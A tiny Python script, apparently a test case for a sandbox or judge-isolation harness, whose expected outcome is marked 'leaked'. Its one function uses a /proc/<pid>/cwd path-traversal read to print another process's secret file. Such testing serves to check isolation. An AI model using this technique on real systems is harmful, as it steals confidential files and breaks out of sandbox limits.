# oracle: leaked
from host import JUDGE, SECRET


def attack():
    print(open(f"/proc/{JUDGE}/cwd/{'../' * 30}{SECRET.lstrip('/')}").read())
